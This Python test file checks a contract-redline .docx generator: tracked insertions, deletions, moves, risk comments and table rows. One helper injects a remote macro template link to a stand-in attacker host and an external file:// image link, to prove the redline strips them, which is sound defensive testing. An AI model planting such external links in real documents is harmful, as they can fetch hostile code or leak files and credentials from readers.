"""The .docx redline: accepting every revision gives the newer draft, rejecting gives the older."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Sequence
from pathlib import Path

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from assistant import model
from assistant.clauses import segmentation
from assistant.documents import reading
from assistant.reporting import docx_redline
from tests.fixtures import docx_builder as dx
from tests.unit.reporting import factories as f
from tests.unit.reporting import wordviews as wv

Kind = model.ChangeKind
DATE = "2026-03-05T10:00:00Z"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _views_match(drafts: Sequence[model.Draft], changes: Sequence[model.Change]) -> bytes:
    """Build the redline and check both views against both drafts, in the plan and in the XML."""
    old, new = drafts[-2], drafts[-1]
    paragraphs = docx_redline.plan(old, new, changes)
    expected_old, expected_new = docx_redline.draft_text(old), docx_redline.draft_text(new)
    planned_new = [
        p.text(model.View.CURRENT) for p in paragraphs if p.present_in(model.View.CURRENT)
    ]
    planned_old = [
        p.text(model.View.ORIGINAL) for p in paragraphs if p.present_in(model.View.ORIGINAL)
    ]
    assert planned_new == list(expected_new)
    assert planned_old == list(expected_old)
    package = docx_redline.build(drafts, changes, date=DATE)
    views = wv.read(package)
    assert views.accepted == list(expected_new)
    assert views.rejected == list(expected_old)
    return package


@pytest.fixture
def negotiation() -> list[model.Draft]:
    """Two drafts exercising every kind of change, renumbering and a changed heading."""
    old = f.draft(
        "v1",
        [
            ("1.1", "Provider shall keep logs for two years.", ("1. Logging",)),
            ("1.2", "Customer shall not analyse bulk data.", ("1. Logging",)),
            ("1.3", "Access is limited to Users.", ("1. Logging",)),
            ("2.1", "Fees are due in thirty days.", ("2. Fees",)),
            ("2.2", "Invoices  go to the portal.", ("2. Fees",)),
            (None, "This clause survives.", ("2. Fees",)),
        ],
    )
    new = f.draft(
        "v2",
        [
            ("1.1", "Provider should keep logs for one year.", ("1. Logging and audit",)),
            (
                "1.2",
                "Customer may use the Services for any lawful purpose.",
                ("1. Logging and audit",),
            ),
            ("2.1", "Fees are due in thirty days.", ("2. Fees",)),
            ("2.2", "Invoices go to the portal.", ("2. Fees",)),
            ("2.3", "Access is limited to Users.", ("2. Fees",)),
            (None, "This clause survives.", ("2. Fees",)),
        ],
    )
    return [old, new]


def _changes(drafts: list[model.Draft]) -> list[model.Change]:
    high = f.verdict(
        model.Risk.HIGH,
        ("§1.1 was weakened: 'shall' became 'should'.",),
        ("modality.weakened",),
        ("audit_logging",),
    )
    critical = f.verdict(
        model.Risk.CRITICAL,
        ("§1.2 'Customer shall not analyse bulk data' was deleted.",),
        ("safeguard.struck",),
        ("bulk_data",),
    )
    inserted = f.verdict(
        model.Risk.HIGH,
        ("'any lawful purpose' language was inserted.",),
        ("risk_language.inserted",),
        ("any_lawful_purpose",),
    )
    engine_diff = (
        model.Edit(model.Op.EQUAL, "Provider "),
        model.Edit(model.Op.DELETE, "shall"),
        model.Edit(model.Op.INSERT, "should"),
        model.Edit(model.Op.EQUAL, " keep logs for "),
        model.Edit(model.Op.DELETE, "two years"),
        model.Edit(model.Op.INSERT, "one year"),
        model.Edit(model.Op.EQUAL, "."),
    )
    return [
        f.change(drafts, Kind.DELETED, [1], [], assessment=critical),
        f.change(drafts, Kind.MODIFIED, [0], [0], assessment=high, diff=engine_diff),
        f.change(drafts, Kind.INSERTED, [], [1], assessment=inserted),
        f.change(drafts, Kind.MOVED, [2], [4]),
    ]  # fmt: skip


def test_scenario_views(negotiation: list[model.Draft]) -> None:
    _views_match(negotiation, _changes(negotiation))


def test_engine_diff_is_used_word_by_word(negotiation: list[model.Draft]) -> None:
    paragraphs = docx_redline.plan(negotiation[0], negotiation[1], _changes(negotiation))
    edited = next(p for p in paragraphs if p.mark is docx_redline.Mark.EDITED and p.change == 1)
    assert [e.text for e in edited.edits if e.op is model.Op.INSERT] == ["should", "one year"]


def test_unreported_whitespace_and_renumbering_still_round_trip() -> None:
    old = f.draft("a", [("3.1", "Keep  it."), ("3.2", "Same text.")])
    new = f.draft("b", [("4.1", "Keep it."), ("4.2", "Same text.")])
    package = _views_match([old, new], [])
    root = wv.document_xml(package)
    inserted = {t.text for e in root.iter(wv.w("ins")) for t in e.iter(wv.w("t"))}
    deleted = {t.text for e in root.iter(wv.w("del")) for t in e.iter(wv.w("delText"))}
    assert {"4.1", "4.2"} <= inserted and {"3.1", "3.2"} <= deleted  # numbers are tracked too


@pytest.mark.parametrize(
    ("old_specs", "new_specs", "kind", "old", "new"),
    [
        ([("1", "Kept."), ("2", "Struck at the end.")], [("1", "Kept.")], Kind.DELETED, [1], []),
        ([("1", "Kept.")], [("1", "Kept."), ("2", "Added at the end.")], Kind.INSERTED, [], [1]),
        (
            [("1", "Moved."), ("2", "Kept.")],
            [("1", "Kept."), ("2", "Moved.")],
            Kind.MOVED,
            [0],
            [1],
        ),
        ([("1", "All gone.")], [], Kind.DELETED, [0], []),
        ([], [("1", "All new.")], Kind.INSERTED, [], [0]),
    ],
)
def test_the_last_paragraph_mark_is_never_revised(
    old_specs: list[f.Spec], new_specs: list[f.Spec], kind: Kind, old: list[int], new: list[int]
) -> None:
    drafts = [f.draft("a", old_specs), f.draft("b", new_specs)]
    package = _views_match(drafts, [f.change(drafts, kind, old, new)])
    last = list(wv.document_xml(package).iter(wv.w("p")))[-1]
    assert last.find(f"{wv.w('pPr')}/{wv.w('rPr')}") is None


def test_split_and_merge_are_shown_whole() -> None:
    old = f.draft("a", [("1", "Alpha beta."), ("2", "Gamma."), ("3", "Delta.")])
    new = f.draft("b", [("1", "Alpha beta. Gamma."), ("2", "Delta"), ("3", "epsilon.")])
    changes = [
        f.change([old, new], Kind.MODIFIED, [0, 1], [0]),
        f.change([old, new], Kind.MODIFIED, [2], [1, 2]),
    ]
    _views_match([old, new], changes)


def test_unmoved_pairs_out_of_order_do_not_break_the_views() -> None:
    old = f.draft("a", [("1", "One."), ("2", "Two."), ("3", "Three.")])
    new = f.draft("b", [("1", "Three!"), ("2", "Two."), ("3", "One!")])
    changes = [
        f.change([old, new], Kind.MODIFIED, [2], [0]),
        f.change([old, new], Kind.MODIFIED, [0], [2]),
    ]
    _views_match([old, new], changes)


@st.composite
def _pairs(draw: st.DrawFn) -> tuple[list[model.Draft], list[model.Change]]:
    words = st.sampled_from(["shall", "may", "not", "data", "the", "Provider", "  ", ",", "."])
    text = st.lists(words, min_size=1, max_size=5).map(lambda w: " ".join(w).strip() or "x")
    refs = st.one_of(st.none(), st.sampled_from(["1", "1.1", "2", "(a)"]))
    heads = st.sampled_from([(), ("A",), ("A", "B"), ("C",)])
    old_specs = draw(st.lists(st.tuples(refs, text, heads), max_size=7))
    new_specs = draw(st.lists(st.tuples(refs, text, heads), max_size=7))
    drafts = [f.draft("old", old_specs), f.draft("new", new_specs)]
    old_left = list(range(len(old_specs)))
    new_left = list(range(len(new_specs)))
    changes: list[model.Change] = []
    for _ in range(draw(st.integers(0, 6))):
        take_old = draw(st.integers(0, min(2, len(old_left))))
        take_new = draw(st.integers(0, min(2, len(new_left))))
        if not take_old and not take_new:
            continue
        old_pick = sorted(draw(st.permutations(old_left))[:take_old])
        new_pick = sorted(draw(st.permutations(new_left))[:take_new])
        old_left = [i for i in old_left if i not in old_pick]
        new_left = [i for i in new_left if i not in new_pick]
        kind = (
            Kind.INSERTED
            if not old_pick
            else Kind.DELETED
            if not new_pick
            else draw(st.sampled_from([Kind.MODIFIED, Kind.MOVED]))
        )
        risk = draw(st.sampled_from(list(model.Risk)))
        changes.append(
            f.change(drafts, kind, old_pick, new_pick, assessment=f.verdict(risk, ("why",)))
        )
    return drafts, changes


@settings(max_examples=150, deadline=None)
@given(_pairs())
def test_any_pairing_round_trips(case: tuple[list[model.Draft], list[model.Change]]) -> None:
    drafts, changes = case
    _views_match(drafts, changes)


def test_revisions_are_attributed_and_dated(negotiation: list[model.Draft]) -> None:
    package = docx_redline.build(
        negotiation, _changes(negotiation), author="Our Counsel", date=DATE
    )
    root = wv.document_xml(package)
    marks = [e for tag in ("ins", "del", "moveFrom", "moveTo") for e in root.iter(wv.w(tag))]
    assert {e.tag for e in marks} == {wv.w(t) for t in ("ins", "del", "moveFrom", "moveTo")}
    assert {e.get(wv.w("author")) for e in marks} == {"Our Counsel"}
    assert {e.get(wv.w("date")) for e in marks} == {DATE}
    ids = [e.get(wv.w("id")) for e in marks]
    assert len(ids) == len(set(ids))


def test_moves_have_named_ranges(negotiation: list[model.Draft]) -> None:
    root = wv.document_xml(docx_redline.build(negotiation, _changes(negotiation), date=DATE))
    starts = {
        side: [e.get(wv.w("name")) for e in root.iter(wv.w(f"{side}RangeStart"))]
        for side in ("moveFrom", "moveTo")
    }
    assert starts["moveFrom"] == starts["moveTo"] == ["move1"]
    for side in ("moveFrom", "moveTo"):
        start_ids = [e.get(wv.w("id")) for e in root.iter(wv.w(f"{side}RangeStart"))]
        end_ids = [e.get(wv.w("id")) for e in root.iter(wv.w(f"{side}RangeEnd"))]
        assert start_ids == end_ids
    moved = [e for e in root.iter(wv.w("moveTo")) if e.getparent().tag == wv.w("p")]
    assert "".join(t.text or "" for e in moved for t in e.iter(wv.w("t"))) == (
        "2.3 Access is limited to Users."
    )


def _comments(package: bytes) -> dict[int, str]:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        root = etree.fromstring(archive.read("word/comments.xml"))
    return {
        int(c.get(wv.w("id"), "-1")): "\n".join(
            "".join(t.text or "" for t in p.iter(wv.w("t"))) for p in c.iter(wv.w("p"))
        )
        for c in root.iter(wv.w("comment"))
    }


def test_every_high_or_critical_change_has_an_anchored_comment(
    negotiation: list[model.Draft],
) -> None:
    changes = _changes(negotiation)
    package = docx_redline.build(negotiation, changes, date=DATE)
    comments = _comments(package)
    risky = [c for c in changes if c.assessment.risk.rank >= model.Risk.HIGH.rank]
    assert len(comments) == len(risky) == 3
    for change in risky:
        text = next(t for t in comments.values() if change.assessment.reasons[0] in t)
        assert change.assessment.risk.value.upper() in text
        assert change.assessment.rules[0] in text
    root = wv.document_xml(package)
    for tag in ("commentRangeStart", "commentRangeEnd", "commentReference"):
        assert sorted(int(e.get(wv.w("id"), "-1")) for e in root.iter(wv.w(tag))) == sorted(
            comments
        )
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        dates = re.findall(rb'w:date="([^"]+)"', archive.read("word/comments.xml"))
    assert set(dates) == {DATE.encode()}


def test_comment_threshold_is_configurable(negotiation: list[model.Draft]) -> None:
    changes = _changes(negotiation)
    package = docx_redline.build(negotiation, changes, date=DATE, comment_from=model.Risk.NONE)
    assert len(_comments(package)) == len(changes)


def test_opens_in_python_docx_and_is_deterministic(negotiation: list[model.Draft]) -> None:
    changes = _changes(negotiation)
    package = docx_redline.build(negotiation, changes, date=DATE)
    assert package == docx_redline.build(negotiation, changes, date=DATE)
    document = docx.Document(io.BytesIO(package))
    assert len(document.paragraphs) == len(
        docx_redline.plan(negotiation[0], negotiation[1], changes)
    )
    assert len(list(document.comments)) == 3
    headings = [
        p.text
        for p in document.paragraphs
        if p.style is not None and p.style.name.startswith("Heading")
    ]
    assert "2. Fees" in headings


def test_other_pairs_can_be_chosen() -> None:
    a = f.draft("a", [("1", "One.")])
    b = f.draft("b", [("1", "Two.")])
    c = f.draft("c", [("1", "Three.")])
    changes = [
        f.change([a, b], Kind.MODIFIED, [0], [0], pair=(0, 1)),
        f.change([a, b, c], Kind.MODIFIED, [0], [0], pair=(1, 2)),
    ]
    first = wv.read(docx_redline.build([a, b, c], changes, pair=(0, 1), date=DATE))
    last = wv.read(docx_redline.build([a, b, c], changes, date=DATE))
    assert (first.rejected, first.accepted) == (["1 One."], ["1 Two."])
    assert (last.rejected, last.accepted) == (["1 Two."], ["1 Three."])


def test_text_that_xml_cannot_hold_is_dropped_not_fatal() -> None:
    old = f.draft("a", [("1", "Bell\x07 here.")])
    new = f.draft("b", [("1", "Bell here.")])
    views = wv.read(docx_redline.build([old, new], [], date=DATE))
    assert views.accepted == ["1 Bell here."]


def test_project_reader_sees_the_same_two_views(
    negotiation: list[model.Draft], tmp_path: Path
) -> None:
    target = tmp_path / "redline.docx"
    target.write_bytes(docx_redline.build(negotiation, _changes(negotiation), date=DATE))
    document = reading.read_document(target)
    current = [b.text(model.View.CURRENT) for b in document.blocks]
    original = [b.text(model.View.ORIGINAL) for b in document.blocks]
    assert [t for t in current if t] == list(docx_redline.draft_text(negotiation[1]))
    assert [t for t in original if t] == list(docx_redline.draft_text(negotiation[0]))


def _with_external_links(path: Path) -> None:
    """Give a .docx a remote template and a linked image, as a hostile draft would."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    external = (
        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
        b'TargetMode="External"/>'
    )
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">'.encode()
        + external
        + b"</Relationships>"
    )
    rels = parts["word/_rels/document.xml.rels"]
    parts["word/_rels/document.xml.rels"] = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/image" Target="file:///C:/secret.png" TargetMode="External"/>'
        b"</Relationships>",
    )
    styles = parts["word/styles.xml"]
    parts["word/styles.xml"] = styles.replace(
        b"</w:styles>",
        b'<w:style w:type="paragraph" w:customStyle="1" w:styleId="HouseBody">'
        b'<w:name w:val="House Body"/></w:style></w:styles>',
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_styles_kept_external_relationships_never_copied(tmp_path: Path) -> None:
    old_path = dx.build_docx(
        dx.DocSpec((dx.Para("1.1 Provider shall keep logs."),)), tmp_path / "a.docx"
    )
    new_path = dx.build_docx(
        dx.DocSpec((dx.Para("1.1 Provider may keep logs."),)), tmp_path / "b.docx"
    )
    _with_external_links(new_path)
    drafts = [_read(old_path, "a"), _read(new_path, "b")]
    package = docx_redline.build(drafts, [], date=DATE)
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        names = archive.namelist()
        rels = b"".join(archive.read(n) for n in names if n.endswith(".rels"))
        styles = archive.read("word/styles.xml")
    assert b"External" not in rels and b"attacker" not in rels and b"file:" not in rels
    assert not [n for n in names if n.startswith("word/media/")]
    assert b"House Body" in styles  # the newer draft's own styles came along
    assert wv.read(package).accepted == ["1.1 Provider may keep logs."]


def test_styles_not_taken_from_a_file_that_changed_since_analysis(tmp_path: Path) -> None:
    path = dx.build_docx(dx.DocSpec((dx.Para("1.1 Text."),)), tmp_path / "b.docx")
    _with_external_links(path)
    draft = _read(path, "b")
    path.write_bytes(b"not the analysed file any more")
    with zipfile.ZipFile(io.BytesIO(docx_redline.build([draft, draft], [], date=DATE))) as archive:
        assert b"House Body" not in archive.read("word/styles.xml")


def _read(path: Path, label: str) -> model.Draft:
    document = reading.read_document(path)
    clauses = segmentation.segment(document.blocks)
    return model.Draft(label, str(path), document.sha256, model.View.CURRENT, 0, clauses)


def test_a_redline_needs_two_drafts() -> None:
    with pytest.raises(ValueError, match="two drafts"):
        docx_redline.build([f.draft("a", [("1", "x")])], [])


def test_a_change_from_other_drafts_is_refused() -> None:
    a = f.draft("a", [("1", "One.")])
    b = f.draft("b", [("1", "Two.")])
    stranger = f.draft("z", [("9", "Elsewhere.")])
    change = f.change([stranger, b], Kind.DELETED, [0], [])
    with pytest.raises(ValueError, match="not in its draft"):
        docx_redline.plan(a, b, [change])


def _row(*cells: str) -> model.Clause:
    """A table-row clause as segmentation makes one."""
    text = " | ".join(c for c in cells if c)
    return model.Clause(ref=None, heading=(), text=text, original_text=text, cells=cells)


@pytest.fixture
def price_table() -> list[model.Draft]:
    """A price table: one row edited, one struck, one added last (the body ends on the table)."""
    intro = f.clause("1.1", "Fees are set out below.")
    header, training = _row("Service", "Price", ""), _row("Training", "£10", "once")
    old = [intro, header, _row("Hosting", "£100", "monthly"), _row("Support", "£50", "yearly")]
    new = [intro, header, _row("Hosting", "£120", "monthly"), training, _row("Audit", "£30", "")]
    return [
        model.Draft("v1", "v1.docx", "0" * 64, model.View.CURRENT, 0, (*old, training)),
        model.Draft("v2", "v2.docx", "0" * 64, model.View.CURRENT, 0, tuple(new)),
    ]


def _table_changes(drafts: list[model.Draft]) -> list[model.Change]:
    raised = f.verdict(model.Risk.HIGH, ("The hosting price rose.",), ("number.weakened",))
    return [
        f.change(drafts, Kind.MODIFIED, [2], [2], assessment=raised),
        f.change(drafts, Kind.DELETED, [3], []),
        f.change(drafts, Kind.INSERTED, [], [4]),
    ]


def test_table_rows_stay_a_table_revised_cell_by_cell(price_table: list[model.Draft]) -> None:
    package = _views_match(price_table, _table_changes(price_table))
    root = wv.document_xml(package)
    (table,) = root.iter(wv.w("tbl"))
    rows = list(table.iter(wv.w("tr")))
    assert len(rows) == 5  # header, hosting, support (struck), training, audit (added)
    assert [len(row.findall(wv.w("tc"))) for row in rows] == [3, 3, 3, 3, 3]
    marks = [[m.tag for m in row.findall(f"{wv.w('trPr')}/*")] for row in rows]
    assert marks == [[], [], [wv.w("del")], [], [wv.w("ins")]]
    price = rows[1].findall(wv.w("tc"))[1]
    assert ["".join(d.itertext()) for d in price.iter(wv.w("del"))] == ["100"]
    assert ["".join(i.itertext()) for i in price.iter(wv.w("ins"))] == ["120"]
    # the comment on the edited row is anchored inside it
    assert rows[1].find(f".//{wv.w('commentRangeStart')}") is not None
    assert rows[1].find(f".//{wv.w('commentRangeEnd')}") is not None
    body = root.find(wv.w("body"))
    assert body is not None
    assert [child.tag for child in body][-2:] == [wv.w("p"), wv.w("sectPr")]


def test_our_reader_reads_the_redline_s_table_back_as_the_drafts_rows(
    price_table: list[model.Draft], tmp_path: Path
) -> None:
    target = tmp_path / "redline.docx"
    target.write_bytes(docx_redline.build(price_table, _table_changes(price_table), date=DATE))
    blocks = reading.read_document(target).blocks
    for view, draft in (
        (model.View.CURRENT, price_table[1]),
        (model.View.ORIGINAL, price_table[0]),
    ):
        clauses = [c for c in segmentation.segment(blocks, view) if c.text]
        assert [(c.text, c.cells) for c in clauses[1:]] == [
            (c.text, c.cells) for c in draft.clauses[1:]
        ]


def test_a_row_whose_cells_no_longer_line_up_is_shown_as_text() -> None:
    old = model.Draft("v1", "v1.md", "0" * 64, model.View.CURRENT, 0, (_row("Hosting", "£100"),))
    new = model.Draft(
        "v2", "v2.md", "0" * 64, model.View.CURRENT, 0, (_row("Hosting", "£100", "monthly"),)
    )
    drafts = [old, new]
    package = _views_match(drafts, [f.change(drafts, Kind.MODIFIED, [0], [0])])
    assert not list(wv.document_xml(package).iter(wv.w("tbl")))
